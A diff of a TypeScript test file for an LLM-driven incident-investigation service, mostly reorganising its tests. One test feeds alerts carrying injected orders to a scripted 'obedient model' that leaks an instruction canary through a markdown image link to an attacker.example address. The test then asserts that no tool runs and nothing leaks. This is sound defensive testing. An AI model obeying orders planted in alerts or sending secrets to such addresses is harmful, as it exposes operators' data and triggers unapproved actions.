@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, expect, it } from "vitest";
 import { createChannel, hmacHex } from "#test/support/channels/channel.ts";
 import { disguises, orders } from "#test/support/chat/poisoned-texts.ts";
 import { Client, newIdentity } from "#test/support/client.ts";
@@ -49,198 +49,196 @@ const obedientModel: Script = (response, request) => {
   return streamText([`My instructions: ${canary} ![x](${address})`])(response, request);
 };
 
-describe("investigation of an incident", () => {
-  let service: ScriptedService;
-  let mcp: McpServer;
-  let client: Client;
-  let channel: Awaited<ReturnType<typeof createChannel>>;
+let service: ScriptedService;
+let mcp: McpServer;
+let client: Client;
+let channel: Awaited<ReturnType<typeof createChannel>>;
 
-  beforeAll(async () => {
-    [service, mcp] = await Promise.all([startScriptedService({ script: scriptedModel }), startMcpServer()]);
-    mcp.tools = ["metrics", "logs", "deployments"].map((name) => toolDefinition(name));
-    mcp.call = callStub;
-    client = new Client(newIdentity(), service.baseUrl);
-    const { body: server } = await client.post("/v1/tools/servers", {
-      name: "Watch",
-      url: mcp.url,
-      tool_modes: { metrics: "auto", logs: "auto", deployments: "auto" },
-      trusted_tools: ["metrics", "logs", "deployments"],
-    });
-    const { collection } = await addIndexedDocument(client, { title: "Error rate of deployments", text: runbook });
-    const { body: persona } = await client.post("/v1/personas", {
+beforeAll(async () => {
+  [service, mcp] = await Promise.all([startScriptedService({ script: scriptedModel }), startMcpServer()]);
+  mcp.tools = ["metrics", "logs", "deployments"].map((name) => toolDefinition(name));
+  mcp.call = callStub;
+  client = new Client(newIdentity(), service.baseUrl);
+  const { body: server } = await client.post("/v1/tools/servers", {
+    name: "Watch",
+    url: mcp.url,
+    tool_modes: { metrics: "auto", logs: "auto", deployments: "auto" },
+    trusted_tools: ["metrics", "logs", "deployments"],
+  });
+  const { collection } = await addIndexedDocument(client, { title: "Error rate of deployments", text: runbook });
+  const { body: persona } = await client.post("/v1/personas", {
+    name: "On call",
+    tool_servers: [{ server_id: server.id }],
+    collection_ids: [collection],
+  });
+  channel = await createChannel({}, client);
+  const investigate = { persona: persona.id, budget: { tokens_per_run: 20_000 } };
+  await client.patch(`/v1/webhooks/${channel.id}`, { investigate });
+}, 60_000);
+afterAll(() => Promise.all([service?.stop(), mcp?.stop()]));
+
+const post = (alert: object) => {
+  const raw = JSON.stringify(alert);
+  const signature = hmacHex(String(channel.registration.secret), raw);
+  return channel.post(raw, { "x-webhook-signature": signature });
+};
+const list = async () => (await client.get("/v1/investigations?limit=100")).body.investigations;
+/** Waits until the investigations of these services have ended, and all others that were started. */
+const untilEnded = (services: readonly string[]) =>
+  expect
+    .poll(
+      async () => {
+        const entries: { service: string; ended_at: string | null }[] = await list();
+        const ended = entries.flatMap((entry) => (entry.ended_at ? entry.service : []));
+        return ended.length === entries.length && services.every((name) => ended.includes(name));
+      },
+      { timeout: 120_000, interval: 200 },
+    )
+    .toBe(true);
+const incidentOf = (name: string) => incidents.find((incident) => incident.service === name) as RecordedIncident;
+
+it("investigation of an incident keeps only claims that observations support, and gives the verdict that they allow", async () => {
+  for (const incident of chosen) {
+    expect((await post(toAlertmanager(incident, "firing"))).status).toBe(200);
+    if (incident.expected === "resolved") await post(toAlertmanager(incident, "resolved"));
+  }
+  // An incident that is resolved before its alert is considered starts no investigation.
+  await untilEnded(chosen.flatMap(({ expected, service }) => (expected === "resolved" ? [] : service)));
+  for (const { id, service: name } of await list()) {
+    const { body } = await client.get(`/v1/investigations/${id}`);
+    const incident = incidentOf(name);
+    const { result } = body;
+    if (incident.expected === "resolved") {
+      expect([body.state, ["skipped", "completed"].includes(body.status)]).toEqual(["resolved", true]);
+      if (body.status === "skipped") continue;
+    } else expect([name, body.status, body.verdict]).toEqual([name, "completed", incident.expected]);
+    const texts = new Map<string, string>(
+      result.observations.map(({ id, excerpt }: { id: string; excerpt: string }) => [id, excerpt]),
+    );
+    const evidence = result.hypotheses.flatMap(({ evidence }: { evidence: object[] }) => evidence);
+    for (const { observation, quote } of evidence) expect(texts.get(observation)).toContain(quote);
+    const claims = result.hypotheses.map(({ claim }: { claim: string }) => claim);
+    const discarded = result.discarded.map(({ claim }: { claim: string }) => claim);
+    expect(discarded).toEqual(expect.arrayContaining(wrongClaims(incident).map(({ claim }) => claim)));
+    expect(claims.filter((claim: string) => claim !== incident.cause?.claim)).toEqual(["Something else is wrong"]);
+  }
+}, 300_000);
+
+it("investigation of an incident finds the runbook by its match, and answers a question in its thread with what it observed", async () => {
+  const { id, alert_id } = (await list()).find((entry: { service: string }) => entry.service === "deployment-a");
+  const { result } = (await client.get(`/v1/investigations/${id}`)).body;
+  expect(result.runbook).toMatchObject({ title: "Error rate of deployments", matched_by: "match" });
+  expect(result.next_steps).toMatchObject([
+    { command: "deployctl history --service deployment-a", observation: "p1" },
+    { link: "https://wiki.example/rollback" },
+  ]);
+  const { text } = (await client.get(`/v1/investigations/${id}/review`)).body;
+  expect(text).toContain("Version v2.14.1 raises NullPointerException in the price calculation (confirmed)");
+  expect(text).toContain("- [ ] Compare with the last deployment");
+  service.upstream.requests.length = 0;
+  const question = { conversation_id: channel.conversation_id, parent_message_id: alert_id, tier: "QUICK" };
+  await client.chat({ ...question, content: "What did the logs say?" });
+  const prompts = JSON.stringify(service.upstream.requests.map(({ body }) => body.messages));
+  expect(prompts).toContain("ERROR NullPointerException in PriceCalculator.total");
+  expect(prompts).toContain("Result of the investigation");
+});
+
+it("investigation of an incident gives the same verdict and sequence again when it is replayed, and calls no tool", async () => {
+  const finished = (await list()).filter(({ status }: { status: string }) => status === "completed");
+  const before = mcp.requests.length;
+  for (const { id } of finished) {
+    expect((await client.post(`/v1/investigations/${id}/replays`, {})).status).toBe(202);
+  }
+  for (const { id, verdict } of finished) {
+    const last = async () => (await client.get(`/v1/investigations/${id}/replays`)).body.replays[0];
+    await expect.poll(async () => (await last()).status, { timeout: 120_000 }).not.toBe("queued");
+    const replay = await last();
+    expect(replay).toMatchObject({ status: "completed", verdict, is_same_verdict: true, is_same_sequence: true });
+    expect(replay.usage.cost_usd).toBeGreaterThan(0);
+  }
+  expect(mcp.requests.slice(before).filter(({ message }) => message?.method === "tools/call")).toEqual([]);
+}, 300_000);
+
+it("investigation of an incident obeys no order in alerts, with a model that obeys all of them: no effect without consent, and no secret outside", async () => {
+  const ops = await startMcpServer();
+  const attacker = new Client(newIdentity(), service.baseUrl);
+  try {
+    ops.tools = [toolDefinition("rollback")];
+    const { body: server } = await attacker.post("/v1/tools/servers", { name: "Ops", url: ops.url, mode: "auto" });
+    const { body: persona } = await attacker.post("/v1/personas", {
       name: "On call",
       tool_servers: [{ server_id: server.id }],
-      collection_ids: [collection],
     });
-    channel = await createChannel({}, client);
-    const investigate = { persona: persona.id, budget: { tokens_per_run: 20_000 } };
-    await client.patch(`/v1/webhooks/${channel.id}`, { investigate });
-  }, 60_000);
-  afterAll(() => Promise.all([service?.stop(), mcp?.stop()]));
-
-  const post = (alert: object) => {
-    const raw = JSON.stringify(alert);
-    const signature = hmacHex(String(channel.registration.secret), raw);
-    return channel.post(raw, { "x-webhook-signature": signature });
-  };
-  const list = async () => (await client.get("/v1/investigations?limit=100")).body.investigations;
-  /** Waits until the investigations of these services have ended, and all others that were started. */
-  const untilEnded = (services: readonly string[]) =>
-    expect
-      .poll(
-        async () => {
-          const entries: { service: string; ended_at: string | null }[] = await list();
-          const ended = entries.flatMap((entry) => (entry.ended_at ? entry.service : []));
-          return ended.length === entries.length && services.every((name) => ended.includes(name));
-        },
-        { timeout: 120_000, interval: 200 },
-      )
-      .toBe(true);
-  const incidentOf = (name: string) => incidents.find((incident) => incident.service === name) as RecordedIncident;
-
-  it("keeps only claims that observations support, and gives the verdict that they allow", async () => {
-    for (const incident of chosen) {
-      expect((await post(toAlertmanager(incident, "firing"))).status).toBe(200);
-      if (incident.expected === "resolved") await post(toAlertmanager(incident, "resolved"));
+    const target = await createChannel({}, attacker);
+    // Investigations that wait for a decision keep their reservation.
+    const budget = { tokens_per_run: 20_000, tokens_per_day: 10_000_000 };
+    await attacker.patch(`/v1/webhooks/${target.id}`, { investigate: { persona: persona.id, budget } });
+    service.upstream.script = obedientModel;
+    const languages = Object.values(orders);
+    const texts = Object.values(disguises)
+      .slice(0, 8)
+      .flatMap((disguise) => languages.map((order) => disguise(order)))
+      .filter((_, index) => process.env.SWITCHBOARD_FULL || index % 8 === 0 || index % 8 === 3);
+    for (const [n, text] of texts.entries()) {
+      const labels = { alertname: `Poison ${n}`, service: `poison-${n}`, severity: "critical" };
+      const alert = { status: "firing", labels, annotations: { summary: text }, fingerprint: `p-${n}` };
+      const raw = JSON.stringify({ status: "firing", groupKey: `p-${n}`, commonLabels: labels, alerts: [alert] });
+      const signature = hmacHex(String(target.registration.secret), raw);
+      expect((await target.post(raw, { "x-webhook-signature": signature })).status).toBe(200);
     }
-    // An incident that is resolved before its alert is considered starts no investigation.
-    await untilEnded(chosen.flatMap(({ expected, service }) => (expected === "resolved" ? [] : service)));
-    for (const { id, service: name } of await list()) {
-      const { body } = await client.get(`/v1/investigations/${id}`);
-      const incident = incidentOf(name);
-      const { result } = body;
-      if (incident.expected === "resolved") {
-        expect([body.state, ["skipped", "completed"].includes(body.status)]).toEqual(["resolved", true]);
-        if (body.status === "skipped") continue;
-      } else expect([name, body.status, body.verdict]).toEqual([name, "completed", incident.expected]);
-      const texts = new Map<string, string>(
-        result.observations.map(({ id, excerpt }: { id: string; excerpt: string }) => [id, excerpt]),
-      );
-      const evidence = result.hypotheses.flatMap(({ evidence }: { evidence: object[] }) => evidence);
-      for (const { observation, quote } of evidence) expect(texts.get(observation)).toContain(quote);
-      const claims = result.hypotheses.map(({ claim }: { claim: string }) => claim);
-      const discarded = result.discarded.map(({ claim }: { claim: string }) => claim);
-      expect(discarded).toEqual(expect.arrayContaining(wrongClaims(incident).map(({ claim }) => claim)));
-      expect(claims.filter((claim: string) => claim !== incident.cause?.claim)).toEqual(["Something else is wrong"]);
-    }
-  }, 300_000);
-
-  it("finds the runbook by its match, and answers a question in its thread with what it observed", async () => {
-    const { id, alert_id } = (await list()).find((entry: { service: string }) => entry.service === "deployment-a");
-    const { result } = (await client.get(`/v1/investigations/${id}`)).body;
-    expect(result.runbook).toMatchObject({ title: "Error rate of deployments", matched_by: "match" });
-    expect(result.next_steps).toMatchObject([
-      { command: "deployctl history --service deployment-a", observation: "p1" },
-      { link: "https://wiki.example/rollback" },
-    ]);
-    const { text } = (await client.get(`/v1/investigations/${id}/review`)).body;
-    expect(text).toContain("Version v2.14.1 raises NullPointerException in the price calculation (confirmed)");
-    expect(text).toContain("- [ ] Compare with the last deployment");
-    service.upstream.requests.length = 0;
-    const question = { conversation_id: channel.conversation_id, parent_message_id: alert_id, tier: "QUICK" };
-    await client.chat({ ...question, content: "What did the logs say?" });
-    const prompts = JSON.stringify(service.upstream.requests.map(({ body }) => body.messages));
-    expect(prompts).toContain("ERROR NullPointerException in PriceCalculator.total");
-    expect(prompts).toContain("Result of the investigation");
-  });
-
-  it("gives the same verdict and sequence again when it is replayed, and calls no tool", async () => {
-    const finished = (await list()).filter(({ status }: { status: string }) => status === "completed");
-    const before = mcp.requests.length;
-    for (const { id } of finished) {
-      expect((await client.post(`/v1/investigations/${id}/replays`, {})).status).toBe(202);
-    }
-    for (const { id, verdict } of finished) {
-      const last = async () => (await client.get(`/v1/investigations/${id}/replays`)).body.replays[0];
-      await expect.poll(async () => (await last()).status, { timeout: 120_000 }).not.toBe("queued");
-      const replay = await last();
-      expect(replay).toMatchObject({ status: "completed", verdict, is_same_verdict: true, is_same_sequence: true });
-      expect(replay.usage.cost_usd).toBeGreaterThan(0);
-    }
-    expect(mcp.requests.slice(before).filter(({ message }) => message?.method === "tools/call")).toEqual([]);
-  }, 300_000);
-
-  it("obeys no order in alerts, with a model that obeys all of them: no effect without consent, and no secret outside", async () => {
-    const ops = await startMcpServer();
-    const attacker = new Client(newIdentity(), service.baseUrl);
-    try {
-      ops.tools = [toolDefinition("rollback")];
-      const { body: server } = await attacker.post("/v1/tools/servers", { name: "Ops", url: ops.url, mode: "auto" });
-      const { body: persona } = await attacker.post("/v1/personas", {
-        name: "On call",
-        tool_servers: [{ server_id: server.id }],
-      });
-      const target = await createChannel({}, attacker);
-      // Investigations that wait for a decision keep their reservation.
-      const budget = { tokens_per_run: 20_000, tokens_per_day: 10_000_000 };
-      await attacker.patch(`/v1/webhooks/${target.id}`, { investigate: { persona: persona.id, budget } });
-      service.upstream.script = obedientModel;
-      const languages = Object.values(orders);
-      const texts = Object.values(disguises)
-        .slice(0, 8)
-        .flatMap((disguise) => languages.map((order) => disguise(order)))
-        .filter((_, index) => process.env.SWITCHBOARD_FULL || index % 8 === 0 || index % 8 === 3);
-      for (const [n, text] of texts.entries()) {
-        const labels = { alertname: `Poison ${n}`, service: `poison-${n}`, severity: "critical" };
-        const alert = { status: "firing", labels, annotations: { summary: text }, fingerprint: `p-${n}` };
-        const raw = JSON.stringify({ status: "firing", groupKey: `p-${n}`, commonLabels: labels, alerts: [alert] });
-        const signature = hmacHex(String(target.registration.secret), raw);
-        expect((await target.post(raw, { "x-webhook-signature": signature })).status).toBe(200);
-      }
-      const statuses = async () => {
-        const { investigations } = (await attacker.get("/v1/investigations?limit=100")).body;
-        const count = (wanted: string) =>
-          investigations.filter(({ status }: { status: string }) => status === wanted).length;
-        return { waiting: count("waiting"), completed: count("completed") };
-      };
-      const half = texts.length / 2;
-      await expect.poll(statuses, { timeout: 200_000, interval: 500 }).toEqual({ waiting: half, completed: half });
-      expect(ops.requests.filter(({ message }) => message?.method === "tools/call")).toEqual([]);
-      expect((await attacker.get("/v1/notes")).body.notes).toEqual([]);
-      const { messages } = (await attacker.get(`/v1/conversations/${target.conversation_id}/messages?limit=100`)).body;
-      const answers = JSON.stringify(messages.filter(({ role }: { role: string }) => role === "assistant"));
+    const statuses = async () => {
       const { investigations } = (await attacker.get("/v1/investigations?limit=100")).body;
-      const results = await Promise.all(
-        investigations.map(
-          async ({ id }: { id: string }) => (await attacker.get(`/v1/investigations/${id}`)).body.result,
-        ),
-      );
-      for (const leak of ["attacker.example/?d", ...leaked]) {
-        expect(answers).not.toContain(leak);
-        expect(
-          JSON.stringify(results.map((result) => [result?.cause, result?.hypotheses, result?.next_steps])),
-        ).not.toContain(leak);
-      }
-      expect(leaked.size).toBeGreaterThan(0);
-      expect(results.filter((result) => result?.verdict === "confirmed")).toEqual([]);
-    } finally {
-      service.upstream.script = scriptedModel;
-      await ops.stop();
+      const count = (wanted: string) =>
+        investigations.filter(({ status }: { status: string }) => status === wanted).length;
+      return { waiting: count("waiting"), completed: count("completed") };
+    };
+    const half = texts.length / 2;
+    await expect.poll(statuses, { timeout: 200_000, interval: 500 }).toEqual({ waiting: half, completed: half });
+    expect(ops.requests.filter(({ message }) => message?.method === "tools/call")).toEqual([]);
+    expect((await attacker.get("/v1/notes")).body.notes).toEqual([]);
+    const { messages } = (await attacker.get(`/v1/conversations/${target.conversation_id}/messages?limit=100`)).body;
+    const answers = JSON.stringify(messages.filter(({ role }: { role: string }) => role === "assistant"));
+    const { investigations } = (await attacker.get("/v1/investigations?limit=100")).body;
+    const results = await Promise.all(
+      investigations.map(
+        async ({ id }: { id: string }) => (await attacker.get(`/v1/investigations/${id}`)).body.result,
+      ),
+    );
+    for (const leak of ["attacker.example/?d", ...leaked]) {
+      expect(answers).not.toContain(leak);
+      expect(
+        JSON.stringify(results.map((result) => [result?.cause, result?.hypotheses, result?.next_steps])),
+      ).not.toContain(leak);
     }
-  }, 300_000);
-
-  it("stops a replay at a call that was not recorded", async () => {
-    const { id } = (await list()).find((entry: { service: string }) => entry.service === "deployment-a");
-    service.upstream.script = (response, request) =>
-      request.body.tools
-        ? streamToolCalls(["watch__metrics", JSON.stringify({ text: "another question" })])(response, request)
-        : streamText([""])(response, request);
-    const { body } = await client.post(`/v1/investigations/${id}/replays`, {});
-    const before = mcp.requests.length;
-    const found = async () =>
-      (await client.get(`/v1/investigations/${id}/replays`)).body.replays.find(
-        (replay: { id: string }) => replay.id === body.id,
-      );
-    await expect.poll(async () => (await found()).status, { timeout: 30_000 }).toBe("stopped");
-    expect(await found()).toMatchObject({
-      reason: "missing_recording",
-      missing: 'watch__metrics {"text":"another question"}',
-      verdict: null,
-    });
-    expect(mcp.requests.slice(before).filter(({ message }) => message?.method === "tools/call")).toEqual([]);
+    expect(leaked.size).toBeGreaterThan(0);
+    expect(results.filter((result) => result?.verdict === "confirmed")).toEqual([]);
+  } finally {
     service.upstream.script = scriptedModel;
-  }, 60_000);
-});
+    await ops.stop();
+  }
+}, 300_000);
+
+it("investigation of an incident stops a replay at a call that was not recorded", async () => {
+  const { id } = (await list()).find((entry: { service: string }) => entry.service === "deployment-a");
+  service.upstream.script = (response, request) =>
+    request.body.tools
+      ? streamToolCalls(["watch__metrics", JSON.stringify({ text: "another question" })])(response, request)
+      : streamText([""])(response, request);
+  const { body } = await client.post(`/v1/investigations/${id}/replays`, {});
+  const before = mcp.requests.length;
+  const found = async () =>
+    (await client.get(`/v1/investigations/${id}/replays`)).body.replays.find(
+      (replay: { id: string }) => replay.id === body.id,
+    );
+  await expect.poll(async () => (await found()).status, { timeout: 30_000 }).toBe("stopped");
+  expect(await found()).toMatchObject({
+    reason: "missing_recording",
+    missing: 'watch__metrics {"text":"another question"}',
+    verdict: null,
+  });
+  expect(mcp.requests.slice(before).filter(({ message }) => message?.method === "tools/call")).toEqual([]);
+  service.upstream.script = scriptedModel;
+}, 60_000);
 
 it.runIf(process.env.SWITCHBOARD_FULL)(
   "investigations of all incidents with the built-in model claim nothing and are inconclusive",
